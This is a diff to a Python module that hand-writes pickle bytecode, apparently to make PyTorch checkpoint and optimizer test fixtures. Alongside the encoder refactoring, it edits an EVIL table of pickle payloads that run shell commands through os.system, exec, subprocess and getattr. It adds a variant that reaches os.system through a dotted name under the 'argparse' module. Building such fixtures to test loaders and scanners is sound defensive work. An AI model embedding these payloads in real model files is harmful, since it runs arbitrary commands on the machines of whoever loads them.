@@ -44,7 +44,7 @@ class Call:
 class New:
     """An object of a class without calling it (NEWOBJ), with attributes (BUILD)."""
 
-    cls: Global
+    cls: object
     state: object = None
     arguments: tuple[object, ...] = ()
 
@@ -86,19 +86,21 @@ class Writer:
                 return {None: b"N", True: b"\x88", False: b"\x89"}[value]
             case int():
                 return self._int(value)
-            case float():
-                return b"G" + struct.pack(">d", value)
-            case str():
-                return text(value)
-            case bytes():
-                return b"B" + struct.pack("<I", len(value)) + value
+            case float() | str() | bytes():
+                return atom(value)
+            case tuple() | list() | dict():
+                return self._items(value)
+        return self._object(value)
+
+    def _items(self, value: object) -> bytes:
+        match value:
             case tuple():
                 return b"(" + b"".join(self.encode(item) for item in value) + b"t"
             case list():
                 return b"](" + b"".join(self.encode(item) for item in value) + b"e"
             case dict():
                 return b"}(" + b"".join(self.encode(k) + self.encode(v) for k, v in value.items()) + b"u"
-        return self._object(value)
+        raise TypeError(type(value))
 
     def _int(self, value: int) -> bytes:
         if -(2**31) <= value < 2**31:
@@ -134,6 +136,12 @@ class Writer:
         hooks = Call(Global("collections", "OrderedDict"))
         arguments = (Opcodes(identity), tensor.offset, tensor.shape, stride, False, hooks)
         return self.encode(Call(Global("torch._utils", "_rebuild_tensor_v2"), arguments))
+
+
+def atom(value: float | str | bytes) -> bytes:
+    if isinstance(value, float):
+        return b"G" + struct.pack(">d", value)
+    return text(value) if isinstance(value, str) else b"B" + struct.pack("<I", len(value)) + value
 
 
 def text(value: str) -> bytes:
@@ -227,8 +235,10 @@ def make_optimizer(
     """An AdamW optimizer.pt: one entry per shape, every element of a moment being ``moments(index, name)``."""
 
     def entry(index: int, shape: tuple[int, ...]) -> dict[object, object]:
-        filled = {n: Tensor([moments(index, n)] * prod(shape), shape) for n in ("exp_avg", "exp_avg_sq")}
-        return {"step": Tensor([step], ()) if steps_as_tensors else step, **filled}
+        made: dict[object, object] = {"step": Tensor([step], ()) if steps_as_tensors else step}
+        for name in ("exp_avg", "exp_avg_sq"):
+            made[name] = Tensor([moments(index, name)] * prod(shape), shape)
+        return made
 
     state = {index: entry(index, shape) for index, shape in enumerate(shapes)}
     settings = {"lr": 0.0002, "betas": (0.9, 0.999), "eps": 1e-08, "weight_decay": 0.01, **(group or {})}
@@ -295,6 +305,13 @@ def _imported(command: Command) -> Call:
     return Call(Call(Global("builtins", "getattr"), (module, "system")), (command,))
 
 
+def _dotted(command: Command) -> Opcodes:
+    """A name with dots, which protocol 4 follows: a harmless module, and a way out of it."""
+    return Opcodes(
+        b"\x80\x04" + Writer().encode(Call(Global("argparse", "_os.system", stack=True), (command,)))
+    )
+
+
 def _inst(command: Command) -> Opcodes:
     return Opcodes(b"(" + text(command) + b"iposix\nsystem\n")
 
@@ -331,7 +348,7 @@ def _after_hexadecimal(command: Command) -> Opcodes:
 EVIL: Mapping[str, Callable[[Command], object]] = {
     "reduce": _system,
     "stack_global": lambda c: Call(Global("os", "system", stack=True), (c,)),
-    "dotted": lambda c: Call(Global("argparse", "_os.system", stack=True), (c,)),
+    "dotted": _dotted,
     "getattr": _imported,
     "exec": lambda c: Call(Global("builtins", "exec"), (f"import os; os.system({c!r})",)),
     "subprocess": lambda c: Call(Global("subprocess", "getoutput"), (c,)),
